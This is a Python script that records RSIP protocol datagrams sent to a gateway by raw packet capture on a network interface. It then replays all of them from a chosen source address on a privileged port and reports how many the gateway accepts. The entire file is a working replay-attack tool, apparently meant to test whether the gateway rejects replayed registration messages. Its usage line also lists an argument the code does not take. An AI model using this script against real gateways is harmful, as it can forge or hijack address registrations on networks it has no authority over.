"""attack_replay.py record FILE INTERFACE | replay FILE SOURCE [FROM_PORT]

record writes each RSIP datagram to the gateway on that interface, a line of hex
each, until it is ended.  replay sends all of them from SOURCE and prints how many
of them the gateway took: anything but an ERROR_RESPONSE is taken.
"""
import socket
import struct
import sys

GATEWAY = '10.0.0.1'
PORT = 4555
ETH_P_ALL = 3


def record(path, interface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    s.bind((interface, ETH_P_ALL))
    with open(path, 'w') as out:
        print('ready', flush=True)
        while True:
            p = s.recv(65535)
            ip = (p[0] & 15) * 4
            if p[0] >> 4 != 4 or p[9] != 17 or len(p) < ip + 12:
                continue
            if struct.unpack_from('!H', p, ip + 2)[0] == PORT:
                out.write(p[ip + 8:].hex() + '\n')
                out.flush()


def replay(path, source):
    taken = kinds = 0
    sent = set()
    with open(path) as f:
        for line in f:
            sent.add(line.strip())
    for message in sorted(sent):
        # A port of its system's own each time: the most that a host can show.
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for port in range(1023, 600, -1):
            try:
                s.bind((source, port))
                break
            except OSError:
                continue
        s.settimeout(0.5)
        s.connect((GATEWAY, PORT))
        s.send(bytes.fromhex(message))
        kinds |= 1 << int(message[2:4], 16)
        try:
            taken += s.recv(65535)[1] != 1
        except (socket.timeout, ConnectionError):
            pass
        s.close()
    if not kinds >> 2 & 1:
        sys.exit('no REGISTER_REQUEST was recorded')
    print('%d %d' % (len(sent), taken))


if __name__ == '__main__':
    {'record': record, 'replay': replay}[sys.argv[1]](*sys.argv[2:])
